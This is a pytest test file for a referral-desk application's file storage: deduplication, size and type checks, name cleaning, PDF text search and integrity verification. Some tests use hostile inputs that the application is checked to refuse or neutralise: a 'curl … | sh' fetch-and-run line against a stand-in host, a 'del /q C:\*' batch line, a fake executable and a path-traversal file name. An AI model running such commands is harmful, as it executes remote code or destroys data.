"""Files kept with a case: stored in the database, deduplicated, checked, searched, verified."""

from __future__ import annotations

import hashlib
import io
import os
import sqlite3
import stat
from collections.abc import Callable
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from referral_desk.db.engine import Database
from referral_desk.domain.documents import DocumentStatus
from referral_desk.domain.enums import CaseStatus as S
from referral_desk.services import case_list, cases, documents, files, settings
from referral_desk.services.case_list import CaseQuery
from referral_desk.services.documents import CaseDocumentInfo
from referral_desk.services.errors import NotFoundError, ServiceError, ValidationError
from referral_desk.services.files import FileRejectedError
from tests.conftest import NOW, admin, case, patient

HOUR = timedelta(hours=1)
MB = 1024 * 1024
PNG_HEAD = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
TABLES = ("blobs", "blob_texts", "case_files", "case_documents", "document_events")


def _png(size: int, seed: int = 1) -> bytes:
    """PNG-looking bytes of any size, different for each seed."""
    body = hashlib.sha256(str(seed).encode()).digest() * (size // 32 + 1)
    return (PNG_HEAD + body)[:size]


def _pdf(*lines: str) -> bytes:
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    page = canvas.Canvas(buffer)
    for n, line in enumerate(lines):
        page.drawString(72, 720 - 20 * n, line)
    page.showPage()
    page.save()
    return buffer.getvalue()


def _write(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


def _new_case(db: Database, *, at: datetime = NOW) -> int:
    return cases.create_case(db, case(), patient=patient(), actor=admin("maria"), now=at).id


def _doc(db: Database, case_id: int, document_type: str) -> CaseDocumentInfo:
    held = documents.case_records(db, case_id).documents
    return next(d for d in held if d.document_type == document_type)


def _counts(db: Database) -> dict[str, int]:
    with sqlite3.connect(db.path) as conn:
        counts = {t: conn.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in TABLES}
    conn.close()
    return counts


def _found(db: Database, words: str) -> list[str]:
    return [r.reference for r in case_list.fetch_page(db, CaseQuery(text=words), now=NOW).rows]


# Storage


def test_a_stored_file_comes_back_byte_for_byte(db: Database, tmp_path: Path) -> None:
    data = _png(2 * MB + 12345)  # several chunks
    source = _write(tmp_path, "CT thorax.png", data)
    case_id = _new_case(db)
    seen: list[tuple[int, int]] = []
    added = files.add_file(
        db,
        case_id,
        "imaging_report",
        source,
        actor=admin("maria"),
        now=NOW + HOUR,
        progress=lambda done, total: seen.append((done, total)),
    )
    assert added.file_id is not None and added.new_content
    assert (added.name, added.kind, added.size) == ("CT thorax.png", "PNG image", len(data))
    assert added.message.startswith("'CT thorax.png' was added.")
    assert seen[-1] == (2 * len(data), 2 * len(data))
    assert [done for done, _ in seen] == sorted(done for done, _ in seen)

    assert files.file_bytes(db, added.file_id) == data
    copy = files.save_copy(db, added.file_id, tmp_path / "copy.png", actor=admin())
    assert copy.read_bytes() == data
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no leftovers
    viewed = files.export_for_viewing(db, added.file_id, tmp_path / "view")
    assert viewed.name == "CT thorax.png" and viewed.read_bytes() == data

    [info] = _doc(db, case_id, "imaging_report").files
    assert info.id == added.file_id
    assert info.sha256 == hashlib.sha256(data).hexdigest()
    assert (info.name, info.size, info.mime, info.kind) == (
        "CT thorax.png",
        len(data),
        "image/png",
        "PNG image",
    )
    assert (info.added_at, info.added_by, info.removed) == (NOW + HOUR, "maria", False)
    assert info.text_state == "none"  # only PDFs are read for the search
    with sqlite3.connect(db.path) as conn:
        stored = conn.execute("SELECT sha256, size, length(content) FROM blobs").fetchall()
    conn.close()
    assert stored == [(hashlib.sha256(data).hexdigest(), len(data), len(data))]


def test_the_same_bytes_for_two_cases_are_stored_once(db: Database, tmp_path: Path) -> None:
    data = _pdf("Pathology report")
    first, second = _new_case(db), _new_case(db)
    one = files.add_file(
        db, first, "pathology_report", _write(tmp_path, "a.pdf", data), actor=admin("m"), now=NOW
    )
    other = files.add_file(
        db, second, "pathology_report", _write(tmp_path, "b.pdf", data), actor=admin("m"), now=NOW
    )
    assert one.new_content and not other.new_content
    assert "the same file was already stored, so it is kept once" in other.message
    counts = _counts(db)
    assert (counts["blobs"], counts["case_files"]) == (1, 2)
    assert files.file_bytes(db, other.file_id) == data  # type: ignore[arg-type]
    assert _doc(db, second, "pathology_report").files[0].name == "b.pdf"


def test_the_same_file_twice_on_one_document_is_kept_once(db: Database, tmp_path: Path) -> None:
    case_id = _new_case(db)
    path = _write(tmp_path, "consent.pdf", _pdf("I consent"))
    files.add_file(db, case_id, "consent_form", path, actor=admin("m"), now=NOW)
    before = _counts(db)
    again = files.add_file(db, case_id, "consent_form", path, actor=admin("m"), now=NOW + HOUR)
    assert again.file_id is None
    assert again.message == "'consent.pdf' is already attached to this document; it was kept once."
    assert _counts(db) == before
    assert len(_doc(db, case_id, "consent_form").files) == 1


def test_a_file_for_a_requested_document_marks_it_received(db: Database, tmp_path: Path) -> None:
    case_id = _new_case(db)
    version = cases.get_case(db, case_id, now=NOW).version
    added = files.add_file(
        db,
        case_id,
        "pathology_report",
        _write(tmp_path, "path.pdf", _pdf("ER positive")),
        actor=admin("ines"),
        now=NOW + HOUR,
    )
    assert added.change.case_version > version
    assert added.change.moved_to is None
    report = _doc(db, case_id, "pathology_report")
    assert report.status is DocumentStatus.RECEIVED and not report.missing
    assert (report.received_at, report.status_by) == (NOW + HOUR, "ines")
    assert [(e.label, e.detail) for e in report.history[1:]] == [
        ("File added", "path.pdf"),
        ("Received", "path.pdf"),
    ]
    assert cases.get_case(db, case_id, now=NOW).status is S.AWAITING_RECORDS


def test_files_for_every_required_document_complete_the_records(
    db: Database, tmp_path: Path
) -> None:
    case_id = _new_case(db)
    codes = [d.document_type for d in documents.case_records(db, case_id).documents]
    for n, code in enumerate(codes):
        added = files.add_file(
            db,
            case_id,
            code,
            _write(tmp_path, f"{code}.png", _png(1000, seed=n)),
            actor=admin("maria"),
            now=NOW + n * HOUR,
        )
    complete_at = NOW + (len(codes) - 1) * HOUR
    assert added.change.moved_to is S.READY_FOR_REVIEW
    assert added.message.endswith("RD-2026-00001 is ready for review.")
    detail = cases.get_case(db, case_id, now=complete_at)
    assert detail.status is S.READY_FOR_REVIEW
    assert detail.records_complete_at == complete_at
    assert detail.clock.due_at == complete_at + timedelta(hours=48)
    assert detail.history[-1].reason == "All required records received or waived"


def test_a_file_for_a_document_the_case_lacks_adds_it_received_not_required(
    db: Database, tmp_path: Path
) -> None:
    case_id = _new_case(db)
    files.add_file(
        db,
        case_id,
        "discharge_summary",
        _write(tmp_path, "discharge.txt", b"Discharged home on day 3.\n"),
        actor=admin("m"),
        now=NOW,
    )
    summary = _doc(db, case_id, "discharge_summary")
    assert summary.status is DocumentStatus.RECEIVED and not summary.required
    assert summary.files[0].kind == "Plain text"
    assert cases.get_case(db, case_id, now=NOW).status is S.AWAITING_RECORDS


def test_a_file_for_a_waived_document_leaves_it_waived(db: Database, tmp_path: Path) -> None:
    case_id = _new_case(db)
    consent = _doc(db, case_id, "consent_form")
    documents.set_document_status(
        db, consent.id, DocumentStatus.WAIVED, reason="Verbal consent", actor=admin("m"), now=NOW
    )
    files.add_file(
        db, case_id, "consent_form", _write(tmp_path, "c.png", _png(500)), actor=admin("m"), now=NOW
    )
    assert _doc(db, case_id, "consent_form").status is DocumentStatus.WAIVED


# Bad input: a clear message naming the file, and nothing stored


def _refused(
    db: Database, case_id: int, path: Path, message: str, **kwargs: object
) -> FileRejectedError:
    before = _counts(db)
    version = cases.get_case(db, case_id, now=NOW).version
    with pytest.raises(FileRejectedError) as raised:
        files.add_file(db, case_id, "pathology_report", path, actor=admin("m"), now=NOW, **kwargs)  # type: ignore[arg-type]
    assert message in str(raised.value)
    assert _counts(db) == before
    assert cases.get_case(db, case_id, now=NOW).version == version
    assert _doc(db, case_id, "pathology_report").status is DocumentStatus.REQUESTED
    return raised.value


def test_an_empty_file_is_refused(db: Database, tmp_path: Path) -> None:
    _refused(db, _new_case(db), _write(tmp_path, "blank.pdf", b""), "'blank.pdf' is empty.")


def test_a_file_over_the_limit_is_refused_with_the_sizes(db: Database, tmp_path: Path) -> None:
    settings.set_max_file_mb(db, 1, actor=admin())
    case_id = _new_case(db)
    _refused(
        db,
        case_id,
        _write(tmp_path, "big scan.png", _png(2 * MB)),
        "'big scan.png' is 2.0 MB; the limit is 1.0 MB.",
    )
    # Exactly at the limit is fine.
    files.add_file(
        db,
        case_id,
        "imaging_report",
        _write(tmp_path, "ok.png", _png(MB)),
        actor=admin("m"),
        now=NOW,
    )


def test_a_program_renamed_pdf_is_refused(db: Database, tmp_path: Path) -> None:
    exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(48)
    exe += b"PE\x00\x00" + bytes(200)
    _refused(
        db,
        _new_case(db),
        _write(tmp_path, "pathology.pdf", exe),
        "'pathology.pdf' is a program; scripts and programs are never stored.",
    )


def test_a_script_is_refused(db: Database, tmp_path: Path) -> None:
    _refused(
        db,
        _new_case(db),
        _write(tmp_path, "results.txt", b"#!/bin/sh\ncurl http://example.invalid | sh\n"),
        "'results.txt' is a script",
    )


def test_bytes_of_no_accepted_type_are_refused(db: Database, tmp_path: Path) -> None:
    _refused(
        db,
        _new_case(db),
        _write(tmp_path, "report.pdf", b"\x00\x01\x02\x03garbage" * 100),
        "'report.pdf' is not a recognised document or image, whatever its name says.",
    )


def test_a_file_that_is_no_longer_there_is_refused(db: Database, tmp_path: Path) -> None:
    error = _refused(
        db,
        _new_case(db),
        tmp_path / "scans" / "moved.pdf",
        "'moved.pdf' was not found in",
    )
    assert str(tmp_path / "scans") in str(error)


def test_a_folder_is_refused(db: Database, tmp_path: Path) -> None:
    folder = tmp_path / "CT series"
    folder.mkdir()
    _refused(db, _new_case(db), folder, "'CT series' is a folder; choose the files inside it.")


def _changing(path: Path, change: Callable[[Path], None], *, after: int = 0) -> object:
    """A progress callback that changes the file once, when `after` bytes are done."""
    done_once: list[bool] = []

    def progress(done: int, _total: int) -> None:
        if done > after and not done_once:
            done_once.append(True)
            change(path)

    return progress


def _append(path: Path) -> None:
    with path.open("ab") as f:
        f.write(b"more pages")


def _truncate(path: Path) -> None:
    os.truncate(path, 1000)


def _overwrite_same_size(path: Path) -> None:
    with path.open("r+b") as f:
        f.seek(-100, os.SEEK_END)  # a part not read yet
        f.write(b"different bytes")


@pytest.mark.parametrize(
    ("change", "after", "message"),
    [
        (_append, 0, "changed while it was being read"),  # while hashing
        (_truncate, 0, "changed while it was being read"),
        (_overwrite_same_size, 3 * MB, "changed while it was being added"),  # while storing
        (_truncate, 3 * MB, "changed while it was being added"),
    ],
)
def test_a_file_that_changes_while_it_is_added_is_refused(
    db: Database, tmp_path: Path, change: Callable[[Path], None], after: int, message: str
) -> None:
    path = _write(tmp_path, "growing.png", _png(3 * MB))
    error = _refused(
        db, _new_case(db), path, "'growing.png' ", progress=_changing(path, change, after=after)
    )
    assert message in str(error) and "nothing was stored" in str(error)


def test_a_file_for_an_unknown_case_or_document_type_is_refused(
    db: Database, tmp_path: Path
) -> None:
    case_id = _new_case(db)
    path = _write(tmp_path, "x.png", _png(100))
    before = _counts(db)
    with pytest.raises(NotFoundError, match="no case number 999"):
        files.add_file(db, 999, "pathology_report", path, actor=admin("m"), now=NOW)
    with pytest.raises(ValidationError, match="'x-ray' is not a document type"):
        files.add_file(db, case_id, "x-ray", path, actor=admin("m"), now=NOW)
    assert _counts(db) == before


def test_a_file_for_a_retired_document_type_the_case_lacks_is_refused(
    db: Database, tmp_path: Path
) -> None:
    from referral_desk.services import checklists

    case_id = _new_case(db)
    checklists.set_document_type_active(db, "slides_blocks", False, actor=admin())
    before = _counts(db)
    with pytest.raises(ValidationError, match="Slides / blocks is no longer in use"):
        files.add_file(
            db,
            case_id,
            "slides_blocks",
            _write(tmp_path, "s.png", _png(100)),
            actor=admin("m"),
            now=NOW,
        )
    assert _counts(db) == before  # the new bytes were not kept either


# File names


@pytest.mark.parametrize(
    ("name", "stored"),
    [
        ("CT\x07 thorax\x1b.png", "CT thorax.png"),  # control characters
        ("..\\..\\Windows\\System32\\scan.png", "scan.png"),  # a Windows path in the name
        ("Befund Müller: 2026?.png", "Befund Müller 2026.png"),  # reserved on Windows
        (".hidden.png", "hidden.png"),
    ],
)
def test_file_names_are_stored_cleaned(
    db: Database, tmp_path: Path, name: str, stored: str
) -> None:
    case_id = _new_case(db)
    added = files.add_file(
        db, case_id, "imaging_report", _write(tmp_path, name, _png(300)), actor=admin("m"), now=NOW
    )
    assert added.name == stored
    assert _doc(db, case_id, "imaging_report").files[0].name == stored
    viewed = files.export_for_viewing(db, added.file_id, tmp_path / "view")  # type: ignore[arg-type]
    assert viewed.parent.parent == tmp_path / "view" and viewed.name == stored


def test_a_path_with_dot_dot_parts_is_stored_under_its_own_name(
    db: Database, tmp_path: Path
) -> None:
    (tmp_path / "inbox").mkdir()
    (tmp_path / "other").mkdir()
    _write(tmp_path / "other", "scan.png", _png(300))
    case_id = _new_case(db)
    added = files.add_file(
        db,
        case_id,
        "imaging_report",
        tmp_path / "inbox" / ".." / "other" / "scan.png",
        actor=admin("m"),
        now=NOW,
    )
    assert added.name == "scan.png"


def test_a_name_with_nothing_usable_left_is_refused(db: Database, tmp_path: Path) -> None:
    _refused(db, _new_case(db), _write(tmp_path, "\x01\x02..", _png(300)), "no usable file name")


# Opening and saving copies


def test_the_viewer_copy_carries_the_extension_of_what_the_file_really_is(
    db: Database, tmp_path: Path
) -> None:
    """A text file named .bat or .url must open in a text viewer, never run."""
    case_id = _new_case(db)
    for n, (name, data, expected) in enumerate(
        [
            ("notes.bat", b"del /q C:\\*\r\n", "notes.bat.txt"),
            ("link.url", b"[InternetShortcut]\r\nURL=file:///C:/x.exe\r\n", "link.url.txt"),
            ("IM0001", bytes(128) + b"DICM" + bytes(64), "IM0001.dcm"),
            ("scan.JPG", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(64), "scan.JPG"),
            ("letter.txt", b"Dear colleague", "letter.txt"),
        ]
    ):
        added = files.add_file(
            db,
            case_id,
            "referral_letter",
            _write(tmp_path, name, data),
            actor=admin("m"),
            now=NOW + n * HOUR,
        )
        assert added.name == name  # the name staff gave it is kept
        viewed = files.export_for_viewing(db, added.file_id, tmp_path / "view")  # type: ignore[arg-type]
        assert viewed.name == expected
        assert viewed.read_bytes() == data


def test_each_opening_gets_a_fresh_copy_of_what_is_stored(db: Database, tmp_path: Path) -> None:
    """An earlier copy may still be open (locked on Windows) or have been edited in the viewer."""
    case_id = _new_case(db)
    data = _pdf("Referral")
    added = files.add_file(
        db, case_id, "referral_letter", _write(tmp_path, "r.pdf", data), actor=admin("m"), now=NOW
    )
    first = files.export_for_viewing(db, added.file_id, tmp_path / "view")  # type: ignore[arg-type]
    first.write_bytes(b"annotated in the viewer")
    second = files.export_for_viewing(db, added.file_id, tmp_path / "view")  # type: ignore[arg-type]
    assert second != first and second.name == first.name == "r.pdf"
    assert second.read_bytes() == data


@pytest.mark.skipif(os.name == "nt", reason="POSIX permission bits")
def test_a_saved_copy_can_be_read_by_others_like_any_new_file(db: Database, tmp_path: Path) -> None:
    case_id = _new_case(db)
    added = files.add_file(
        db, case_id, "consent_form", _write(tmp_path, "c.png", _png(300)), actor=admin("m"), now=NOW
    )
    umask = os.umask(0o022)
    try:
        copy = files.save_copy(db, added.file_id, tmp_path / "for the GP.png", actor=admin())  # type: ignore[arg-type]
    finally:
        os.umask(umask)
    assert stat.S_IMODE(copy.stat().st_mode) == 0o644


def test_saving_a_copy_into_a_missing_folder_says_so(db: Database, tmp_path: Path) -> None:
    case_id = _new_case(db)
    added = files.add_file(
        db, case_id, "consent_form", _write(tmp_path, "c.png", _png(300)), actor=admin("m"), now=NOW
    )
    with pytest.raises(ServiceError, match="Cannot write to"):
        files.save_copy(db, added.file_id, tmp_path / "gone" / "c.png", actor=admin())  # type: ignore[arg-type]
    with pytest.raises(NotFoundError, match="no file number 999"):
        files.save_copy(db, 999, tmp_path / "c.png", actor=admin())
    with pytest.raises(NotFoundError, match="no file number 999"):
        files.file_bytes(db, 999)


def test_saving_a_copy_replaces_an_older_file_whole(db: Database, tmp_path: Path) -> None:
    case_id = _new_case(db)
    data = _png(5000)
    added = files.add_file(
        db, case_id, "consent_form", _write(tmp_path, "c.png", data), actor=admin("m"), now=NOW
    )
    target = _write(tmp_path, "existing.png", b"old contents")
    files.save_copy(db, added.file_id, target, actor=admin())  # type: ignore[arg-type]
    assert target.read_bytes() == data


# PDF text and the search


def test_a_corrupt_pdf_is_stored_and_its_text_skipped_with_a_note(
    db: Database, tmp_path: Path
) -> None:
    case_id = _new_case(db)
    data = b"%PDF-1.4 garbage"
    added = files.add_file(
        db,
        case_id,
        "pathology_report",
        _write(tmp_path, "broken.pdf", data),
        actor=admin("m"),
        now=NOW,
    )
    assert added.kind == "PDF"
    assert files.pending_text(db) != []
    [blob_id] = files.pending_text(db)
    result = files.extract_text(db, blob_id)
    assert not result.readable
    assert "damaged" in result.note
    [info] = _doc(db, case_id, "pathology_report").files
    assert info.text_state == "skipped"
    assert info.text_note == result.note
    assert files.pending_text(db) == []
    assert files.file_bytes(db, added.file_id) == data  # type: ignore[arg-type]
    assert _doc(db, case_id, "pathology_report").status is DocumentStatus.RECEIVED


def _stored_text(db: Database, tmp_path: Path, data: bytes) -> tuple[str, str]:
    case_id = _new_case(db)
    files.add_file(
        db, case_id, "pathology_report", _write(tmp_path, "p.pdf", data), actor=admin("m"), now=NOW
    )
    files.extract_pending_text(db)
    info = _doc(db, case_id, "pathology_report").files[0]
    return info.text_state, info.text_note


def test_a_pdf_with_a_password_is_stored_and_said_to_be_protected(
    db: Database, tmp_path: Path
) -> None:
    from reportlab.lib.pdfencrypt import StandardEncryption
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    page = canvas.Canvas(buffer, encrypt=StandardEncryption("patient-dob", "office"))
    page.drawString(72, 720, "Confidential")
    page.showPage()
    page.save()
    assert _stored_text(db, tmp_path, buffer.getvalue()) == (
        "skipped",
        "The PDF is password-protected; its text was not read.",
    )


def test_a_scanned_pdf_without_text_is_said_to_have_none(db: Database, tmp_path: Path) -> None:
    assert _stored_text(db, tmp_path, _pdf()) == (
        "skipped",
        "No text found in the PDF (a scanned image?).",
    )


def test_an_aes_secured_pdf_has_its_text_read(db: Database, tmp_path: Path) -> None:
    """Owner-password AES PDFs are what "secured" hospital reports usually are."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_pdf("Secured report"))))
    writer.encrypt(user_password="", owner_password="hospital", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    assert b"/AESV2" in out.getvalue()
    state, _note = _stored_text(db, tmp_path, out.getvalue())
    assert state == "done"


def test_the_text_of_a_pdf_makes_its_case_findable(db: Database, tmp_path: Path) -> None:
    case_id = _new_case(db)
    other = _new_case(db)
    pdf = _write(tmp_path, "histology.pdf", _pdf("Histology: xanthogranulomatous change"))
    added = files.add_file(db, case_id, "pathology_report", pdf, actor=admin("m"), now=NOW)
    assert _doc(db, case_id, "pathology_report").files[0].text_state == "pending"
    assert _found(db, "xanthogranulomatous") == []  # not read yet

    assert files.extract_pending_text(db) == 1
    assert files.extract_pending_text(db) == 0
    info = _doc(db, case_id, "pathology_report").files[0]
    assert (info.text_state, info.text_note) == ("done", "")
    assert _found(db, "xanthogranulomatous") == ["RD-2026-00001"]
    assert _found(db, "XANTHOGRAN") == ["RD-2026-00001"]  # a prefix, any case
    assert _found(db, "zoe xanthogranulomatous") == ["RD-2026-00001"]  # with the patient's name

    # The same PDF attached to a second case is findable there at once (read only once).
    files.add_file(db, other, "pathology_report", pdf, actor=admin("m"), now=NOW + HOUR)
    assert files.pending_text(db) == []
    assert sorted(_found(db, "xanthogranulomatous")) == ["RD-2026-00001", "RD-2026-00002"]

    # Removed from the first case: kept in its history, gone from its search.
    change = files.remove_file(
        db,
        added.file_id,
        reason="Wrong patient",
        actor=admin("ines"),
        now=NOW + 2 * HOUR,  # type: ignore[arg-type]
    )
    assert change.moved_to is None
    assert _found(db, "xanthogranulomatous") == ["RD-2026-00002"]
    assert _found(db, "zoe muller") != []  # the rest of the case is still indexed
    [removed] = _doc(db, case_id, "pathology_report").files
    assert removed.removed
    assert (removed.removed_at, removed.removed_by, removed.removal_reason) == (
        NOW + 2 * HOUR,
        "ines",
        "Wrong patient",
    )
    assert _doc(db, case_id, "pathology_report").active_files == ()
    last = _doc(db, case_id, "pathology_report").history[-1]
    assert (last.label, last.detail) == ("File removed", "histology.pdf: Wrong patient")
    assert files.file_bytes(db, added.file_id) == pdf.read_bytes()  # type: ignore[arg-type]


def test_the_search_text_survives_an_edit_of_the_case(db: Database, tmp_path: Path) -> None:
    case_id = _new_case(db)
    pdf = _write(tmp_path, "h.pdf", _pdf("Findings: pseudoangiomatous stroma"))
    files.add_file(db, case_id, "pathology_report", pdf, actor=admin("m"), now=NOW)
    files.extract_pending_text(db)
    opened = cases.get_case(db, case_id, now=NOW)
    cases.update_case(
        db,
        case_id,
        expected_version=opened.version,
        patient=None,
        case=case(diagnosis="Lobular carcinoma"),
        actor=admin("m"),
        now=NOW + HOUR,
    )
    assert _found(db, "pseudoangiomatous lobular") == ["RD-2026-00001"]


def test_a_removed_file_cannot_be_removed_again(db: Database, tmp_path: Path) -> None:
    case_id = _new_case(db)
    added = files.add_file(
        db, case_id, "consent_form", _write(tmp_path, "c.png", _png(300)), actor=admin("m"), now=NOW
    )
    files.remove_file(db, added.file_id, actor=admin("m"), now=NOW)  # type: ignore[arg-type]
    with pytest.raises(ValidationError, match=r"'c\.png' was already removed"):
        files.remove_file(db, added.file_id, actor=admin("m"), now=NOW)  # type: ignore[arg-type]
    with pytest.raises(NotFoundError):
        files.remove_file(db, 999, actor=admin("m"), now=NOW)
    # Added again after its removal, it is attached again.
    again = files.add_file(
        db, case_id, "consent_form", tmp_path / "c.png", actor=admin("m"), now=NOW + HOUR
    )
    assert again.file_id is not None and not again.new_content
    assert len(_doc(db, case_id, "consent_form").active_files) == 1


# Verifying the stored files


def test_verify_finds_a_damaged_file_and_names_its_cases(db: Database, tmp_path: Path) -> None:
    first, second = _new_case(db), _new_case(db)
    data = _png(MB + 100)
    for case_id, name in ((first, "ct.png"), (second, "ct copy.png")):
        files.add_file(
            db, case_id, "imaging_report", _write(tmp_path, name, data), actor=admin("m"), now=NOW
        )
    healthy = files.add_file(
        db,
        first,
        "consent_form",
        _write(tmp_path, "c.png", _png(300, seed=2)),
        actor=admin("m"),
        now=NOW,
    )
    report = files.verify_files(db)
    assert report.ok and report.checked == 2 and report.damaged == ()

    damaged = bytearray(data)
    damaged[MB] ^= 0xFF  # one flipped byte, same length
    with sqlite3.connect(db.path) as conn:
        conn.execute("UPDATE blobs SET content = ? WHERE size = ?", (bytes(damaged), len(data)))
    conn.close()

    steps: list[tuple[int, int]] = []
    report = files.verify_files(db, progress=lambda done, total: steps.append((done, total)))
    assert not report.ok and report.checked == 2
    [bad] = report.damaged
    assert bad.sha256 == hashlib.sha256(data).hexdigest()
    assert bad.names == ("RD-2026-00001: ct.png", "RD-2026-00002: ct copy.png")
    assert steps == [(1, 2), (2, 2)]

    # A damaged file is never handed out as if it were whole.
    file_id = _doc(db, first, "imaging_report").files[0].id
    target = tmp_path / "out" / "ct.png"
    target.parent.mkdir()
    with pytest.raises(ServiceError, match=r"'ct\.png' is damaged"):
        files.save_copy(db, file_id, target, actor=admin())
    assert list(target.parent.iterdir()) == []
    assert files.save_copy(db, healthy.file_id, target, actor=admin()).exists()  # type: ignore[arg-type]


def test_verify_can_be_cancelled(db: Database, tmp_path: Path) -> None:
    case_id = _new_case(db)
    files.add_file(
        db, case_id, "consent_form", _write(tmp_path, "c.png", _png(300)), actor=admin("m"), now=NOW
    )
    report = files.verify_files(db, cancelled=lambda: True)
    assert report.cancelled and not report.ok and report.checked == 0
